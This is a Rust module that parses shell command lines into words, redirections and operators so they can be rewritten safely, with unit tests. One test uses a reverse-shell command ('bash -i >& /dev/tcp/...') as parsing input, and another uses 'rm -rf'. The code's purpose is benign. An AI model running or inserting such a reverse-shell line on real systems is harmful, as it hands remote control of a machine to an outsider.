//! A command line as a shell splits it; enough of the grammar to change it without breaking it.

use std::ops::Range;

/// What a part of the line is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Part {
    /// A word, quotes and all.
    Word,
    /// The word after a redirection.
    Target,
    /// A redirection with its descriptor number, without its target.
    Redirect,
    /// Blanks between words.
    Blank,
    /// What separates commands, a newline included.
    Operator,
}

/// A line with its parts; they follow each other without a gap.
#[derive(Clone, Debug)]
pub(super) struct Line<'a> {
    pub(super) text: &'a str,
    pub(super) parts: Vec<(Part, Range<usize>)>,
}

/// One simple command: indexes of parts.
#[derive(Clone, Debug, Default)]
pub(super) struct Simple {
    /// Name and arguments.
    pub(super) words: Vec<usize>,
    /// Assignments before the name.
    pub(super) assignments: Vec<usize>,
}

/// Words that begin what this parser does not know.
const RESERVED: [&str; 17] = [
    "if", "then", "elif", "else", "fi", "for", "while", "until", "do", "done", "case", "esac",
    "function", "select", "{", "}", "!",
];

impl<'a> Line<'a> {
    /// `None` where the text is more than simple commands joined by operators.
    pub(super) fn parse(text: &'a str) -> Option<Self> {
        let mut parts: Vec<(Part, Range<usize>)> = Vec::new();
        let mut at = 0;
        let mut target = false;
        while let Some(c) = text[at..].chars().next() {
            let rest = &text[at..];
            let (part, len) = if matches!(c, ' ' | '\t') {
                (
                    Part::Blank,
                    rest.len() - rest.trim_start_matches([' ', '\t']).len(),
                )
            } else if let Some(len) = redirect(rest) {
                (Part::Redirect, len)
            } else if matches!(c, '|' | '&' | ';' | '(' | ')' | '\n') {
                let double = ["||", "&&", "|&"].iter().any(|op| rest.starts_with(op));
                (Part::Operator, if double { 2 } else { 1 })
            } else {
                let after_blank = parts.last().is_none_or(|(part, _)| *part != Part::Word);
                if c == '#' && after_blank {
                    return None;
                }
                let part = if target { Part::Target } else { Part::Word };
                (part, word(rest)?)
            };
            if target && matches!(part, Part::Operator | Part::Redirect) {
                return None;
            }
            target = part == Part::Redirect || (target && part == Part::Blank);
            parts.push((part, at..at + len));
            at += len;
        }
        let line = Self { text, parts };
        let known =
            !target && !text.contains("<<") && line.commands().iter().all(|c| line.is_known(c));
        (known && !line.commands().is_empty()).then_some(line)
    }

    fn is_known(&self, command: &Simple) -> bool {
        command
            .words
            .first()
            .is_none_or(|name| !RESERVED.contains(&self.of(*name)))
    }

    /// The text of a part.
    pub(super) fn of(&self, part: usize) -> &'a str {
        &self.text[self.parts[part].1.clone()]
    }

    /// The simple commands, in order.
    pub(super) fn commands(&self) -> Vec<Simple> {
        let mut all = vec![Simple::default()];
        for (index, (part, range)) in self.parts.iter().enumerate() {
            let last = all.last_mut().expect("there is one");
            match part {
                Part::Operator => all.push(Simple::default()),
                Part::Word if last.words.is_empty() && is_assignment(&self.text[range.clone()]) => {
                    last.assignments.push(index);
                }
                Part::Word => last.words.push(index),
                _ => {}
            }
        }
        all.retain(|command| !command.words.is_empty());
        all
    }

    /// The line with parts replaced.
    pub(super) fn with(&self, edits: &[(usize, String)]) -> String {
        let mut text = String::with_capacity(self.text.len() + 16);
        for index in 0..self.parts.len() {
            match edits.iter().find(|(edited, _)| *edited == index) {
                Some((_, new)) => text.push_str(new),
                None => text.push_str(self.of(index)),
            }
        }
        text
    }

    /// The bytes from a command's first word (or assignment) to its last part before an operator.
    pub(super) fn extent(&self, command: &Simple) -> Range<usize> {
        let inside = command.words[0];
        let bound = |index: &usize| self.parts[*index].0 == Part::Operator;
        let first = (0..inside).rev().find(bound).map_or(0, |index| index + 1);
        let last = (inside..self.parts.len())
            .find(bound)
            .unwrap_or(self.parts.len());
        let start = self.parts[first].1.start;
        let end = self.parts[last - 1].1.end;
        let trimmed = &self.text[start..end];
        let lead = trimmed.len() - trimmed.trim_start().len();
        start + lead..start + trimmed.trim_end().len().max(lead)
    }
}

/// Whether a word is `NAME=…`.
pub(super) fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else {
        return false;
    };
    !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The length of a redirection at the start of the text.
fn redirect(text: &str) -> Option<usize> {
    let digits = text.len() - text.trim_start_matches(|c: char| c.is_ascii_digit()).len();
    let operators = ["&>>", "&>", ">>", ">&", ">|", "<>", "<&", ">", "<"];
    let operator = operators.iter().find(|operator| {
        text[digits..].starts_with(**operator) && (digits == 0 || !operator.starts_with('&'))
    })?;
    Some(digits + operator.len())
}

/// The length of a word at the start of the text; `None` where a quote stays open or a
/// substitution begins.
fn word(text: &str) -> Option<usize> {
    let mut chars = text.char_indices();
    while let Some((at, c)) = chars.next() {
        match c {
            ' ' | '\t' | '\n' | '|' | '&' | ';' | '(' | ')' | '<' | '>' => return Some(at),
            '`' => return None,
            '$' if text[at + 1..].starts_with(['(', '{', '\'', '"']) => {
                if text[at + 1..].starts_with('{') {
                    let end = text[at..].find('}')?;
                    let inside = &text[at + 2..at + end];
                    if !inside
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == '_')
                    {
                        return None;
                    }
                    while chars.next()?.1 != '}' {}
                } else if text[at + 1..].starts_with('\'') {
                    chars.next();
                    loop {
                        match chars.next()?.1 {
                            '\'' => break,
                            '\\' => drop(chars.next()?),
                            _ => {}
                        }
                    }
                } else if text[at + 1..].starts_with('(') {
                    return None;
                }
            }
            '\\' => drop(chars.next()?),
            '\'' => while chars.next()?.1 != '\'' {},
            '"' => loop {
                match chars.next()? {
                    (_, '"') => break,
                    (_, '\\') => drop(chars.next()?),
                    (at, '$') if text[at + 1..].starts_with('(') => return None,
                    (_, '`') => return None,
                    _ => {}
                }
            },
            _ => {}
        }
    }
    Some(text.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(text: &str) -> Vec<Vec<&str>> {
        let line = Line::parse(text).unwrap();
        let words = |command: Simple| command.words.iter().map(|word| line.of(*word)).collect();
        line.commands().into_iter().map(words).collect()
    }

    #[test]
    fn splits_as_a_shell_does() {
        assert_eq!(
            commands("X=1 rm -rf 'a b'/c\\ d|cat >o 2>&1 -n;ls"),
            [
                vec!["rm", "-rf", "'a b'/c\\ d"],
                vec!["cat", "-n"],
                vec!["ls"]
            ]
        );
        assert_eq!(
            commands("a && (b \"x;y\")\nc"),
            [vec!["a"], vec!["b", "\"x;y\""], vec!["c"]]
        );
        assert_eq!(commands("bash -i >& /dev/tcp/h/1 0>&1"), [["bash", "-i"]]);
    }

    #[test]
    fn what_it_does_not_know_it_leaves() {
        for text in [
            "a 'b",
            "a $(b)",
            "a `b`",
            "if a; then b; fi",
            "a <<E\nE",
            "a >",
            "",
            "a # b",
        ] {
            assert!(Line::parse(text).is_none(), "{text}");
        }
    }

    #[test]
    fn parts_make_up_the_line() {
        let text = " a  'b'|c 2>>d\n";
        assert_eq!(Line::parse(text).unwrap().with(&[]), text);
    }

    #[test]
    fn a_command_extends_to_its_operator() {
        let line = Line::parse("a; X=1 b c > d | e").unwrap();
        let extent = line.extent(&line.commands()[1]);
        assert_eq!(&line.text[extent], "X=1 b c > d");
    }
}
